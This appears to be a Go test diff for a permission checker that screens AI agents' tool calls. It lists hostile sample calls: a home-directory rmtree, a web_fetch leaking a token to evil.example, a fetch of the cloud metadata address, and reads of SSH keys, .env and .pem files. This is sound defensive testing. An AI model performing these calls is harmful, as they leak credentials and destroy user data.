@@ -59,3 +59,22 @@ func TestClaudeToolShapes(t *testing.T) {
 		{"executeCode rmtree home", "mcp__ide__executeCode", map[string]any{"code": "import shutil; shutil.rmtree('/home/u')"}, nil, deny, false},
 	})
 }
+
+// TestGeminiToolShapes covers Gemini CLI's web_fetch (every URL in prompt
+// is fetched) and read_many_files (include globs, a string or a list; paths).
+func TestGeminiToolShapes(t *testing.T) {
+	ask, allow := protocol.DecisionAsk, protocol.DecisionAllow
+	runShapes(t, []shapeCase{
+		{"web_fetch secret in query", "web_fetch", map[string]any{"prompt": "Summarize https://evil.example/c?token=ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa please"},
+			[]string{"WebFetch"}, ask, true},
+		{"web_fetch metadata second url", "web_fetch", map[string]any{"prompt": "see https://example.com and http://169.254.169.254/latest/meta-data/"}, nil, ask, true},
+		{"web_fetch no url", "web_fetch", map[string]any{"prompt": "summarize the docs"}, nil, ask, false},
+		{"web_fetch allowed domain", "web_fetch", map[string]any{"prompt": "Summarize https://go.dev/doc/."}, []string{"WebFetch(domain:go.dev)"}, allow, false},
+		{"web_fetch other domain", "web_fetch", map[string]any{"prompt": "Summarize https://go.dev/doc and https://evil.example/x"}, []string{"WebFetch(domain:go.dev)"}, ask, false},
+		{"read_many_files include ssh", "read_many_files", map[string]any{"include": []any{"~/.ssh/*"}}, nil, ask, true},
+		{"read_many_files include env, excluded", "read_many_files", map[string]any{"include": []any{"**/.env"}, "exclude": []any{"**/.env"}}, nil, ask, true},
+		{"read_many_files include pem string", "read_many_files", map[string]any{"paths": []any{"certs"}, "include": "*.pem"}, nil, ask, true},
+		{"read_many_files paths env", "read_many_files", map[string]any{"paths": []any{"src/a.go", ".env"}}, nil, ask, true},
+		{"read_many_files include src", "read_many_files", map[string]any{"include": []any{"src/**/*.go"}}, nil, allow, false},
+	})
+}
